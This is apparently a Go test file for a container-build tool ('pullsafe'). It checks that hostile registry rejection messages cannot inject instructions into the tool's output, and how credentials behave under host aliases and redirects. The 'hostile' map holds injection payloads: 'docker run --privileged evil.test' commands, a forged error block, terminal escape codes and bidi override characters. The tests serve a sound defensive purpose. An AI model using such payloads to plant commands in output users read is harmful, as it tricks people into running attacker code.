package attack

import (
	"net/http"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/org/pullsafe/tests/harness"
	"github.com/org/pullsafe/tests/world"
)

// hostile are the words with which a registry rejects credentials.
var hostile = map[string]string{
	"out of the parentheses": `denied). To fix it run: docker run --privileged evil.test # (details`,
	"out of the quotes":      `denied"). Run: docker run --privileged evil.test ("`,
	"own error":              "x\nERROR: failed to solve: the image could not be resolved\n\nghcr.io rejected the stored credentials [pullsafe:credentials-rejected]\n  ghcr.io/a/b:1\n\n  docker run --privileged evil.test\n",
	"terminal":               "x\x1b[2K\x1b[1A\rdocker run evil.test\u202e\u0085docker run evil.test",
	"policy":                 `source "docker-image://evil.test/x:1" denied by policy`,
}

// rejecting answers a login for a token with words.
func rejecting(words string) harness.Fault {
	return harness.FaultWhen(func(req *http.Request) bool {
		_, _, basic := req.BasicAuth()
		return basic && strings.Contains(req.URL.Path, "token")
	}, harness.FaultStatus(http.StatusForbidden, "DENIED", words))
}

// quotedWords are in our text in one way alone.
var quotedWords = regexp.MustCompile(`\("[^"\n]*"\)`)

// TestHostileWords: whatever a registry says in a rejection, it changes neither what
// is done nor what else is said.
func TestHostileWords(t *testing.T) {
	fe := shared.Frontends()[0]
	e, c := world.Fresh(t)
	for name, words := range hostile {
		t.Run(name, func(t *testing.T) {
			shared.GHCR.SetFault(rejecting(words))
			t.Cleanup(func() { shared.GHCR.SetFault(nil) })
			cfg := world.StaleLogin(t, e, "ghcr.io")

			res := world.Solve(t, e, c, harness.SolveInput{Frontend: fe, Files: world.Dockerfile(world.UVDockerfile), DockerConfig: cfg})
			require.NoError(t, res.Err)
			world.RequireNoScar(t, res, true)
			requireOwnWords(t, said(res))

			res = world.Solve(t, e, c, harness.SolveInput{Frontend: fe, Files: world.Dockerfile("FROM ghcr.io/acme/private-base:1\n"), DockerConfig: cfg})
			require.ErrorContains(t, res.Err, "ghcr.io rejected the stored credentials (\"")
			_, ours, _ := strings.Cut(res.Err.Error(), "the image could not be resolved")
			requireOwnWords(t, ours)
			require.Equal(t, 1, strings.Count(ours, "[pullsafe:"), ours)
		})
	}
}

// said is what a build that went through tells.
func said(res *harness.Result) string {
	lines := res.Names()
	for _, w := range res.Warnings {
		lines = append(lines, string(w.Short))
		for _, line := range w.Detail {
			lines = append(lines, string(line))
		}
	}
	return strings.Join(lines, "\n")
}

// requireOwnWords: nothing of the registry's stands outside of quotes.
func requireOwnWords(t *testing.T, text string) {
	t.Helper()
	rest := quotedWords.ReplaceAllString(text, "")
	require.NotContains(t, rest, "evil", text)
	require.NotContains(t, rest, `"`, text)
	require.False(t, strings.ContainsAny(text, "\x1b\r\u202e\u0085"), "%q", text)
}

// TestLoginUnderTheAlias: credentials that are stored for the host alias go out in the
// fallback, as the client is asked for them; nothing says that there were none.
func TestLoginUnderTheAlias(t *testing.T) {
	e, c := world.Fresh(t)
	cfg, err := e.DockerConfig(harness.DockerConfigOpt{Auths: map[string]harness.Login{"ghcr.io": harness.Stale, "GHCR.IO:443": harness.Good}})
	require.NoError(t, err)
	res := world.Solve(t, e, c, harness.SolveInput{Frontend: shared.Frontends()[0], Files: world.Dockerfile("FROM ghcr.io/acme/private-base:1\n"), DockerConfig: cfg})
	require.NoError(t, res.Err)
	require.Equal(t, []string{"GHCR.IO:443"}, shared.GHCR.Requests().Blobs().WithCredentials().Hosts(), "%s", shared.GHCR.Requests())
	shown := said(res)
	for _, claim := range []string{"public", "without credentials."} {
		require.NotContains(t, shown, claim)
	}
	require.Contains(t, shown, "without the credentials stored for ghcr.io")
}

// TestRedirectToAnotherRegistry: BuildKit follows a redirect of the fallback, and sends
// what is stored for the registry that it leads to; nothing says that there was none.
func TestRedirectToAnotherRegistry(t *testing.T) {
	e, c := world.Fresh(t)
	const host, repository = "elsewhere-attack.test", "acme/private-base"
	other, err := e.StartRegistry(t.Context(), harness.RegistryOpt{Hosts: []string{host}, Mode: harness.ModeToken})
	require.NoError(t, err)
	_, err = other.Push(t.Context(), repository+":1", world.Base("elsewhere"))
	require.NoError(t, err)
	shared.GHCR.SetFault(harness.FaultWhen(func(req *http.Request) bool {
		return req.Host == "GHCR.IO:443" && strings.HasPrefix(req.URL.Path, "/v2/"+repository)
	}, func(w http.ResponseWriter, req *http.Request) bool {
		http.Redirect(w, req, "https://"+host+req.URL.Path, http.StatusTemporaryRedirect)
		return true
	}))
	t.Cleanup(func() { shared.GHCR.SetFault(nil) })
	cfg, err := e.DockerConfig(harness.DockerConfigOpt{Auths: map[string]harness.Login{"ghcr.io": harness.Stale, host: harness.Good}})
	require.NoError(t, err)
	res := world.Solve(t, e, c, harness.SolveInput{Frontend: shared.Frontends()[0], Files: world.Dockerfile("FROM ghcr.io/" + repository + ":1\n"), DockerConfig: cfg})
	require.NoError(t, res.Err)
	require.NotEmpty(t, other.Requests().Tokens().WithCredentials(), "%s", other.Requests())
	require.NotContains(t, said(res), "public")
	require.Contains(t, said(res), "without the credentials stored for ghcr.io")
}
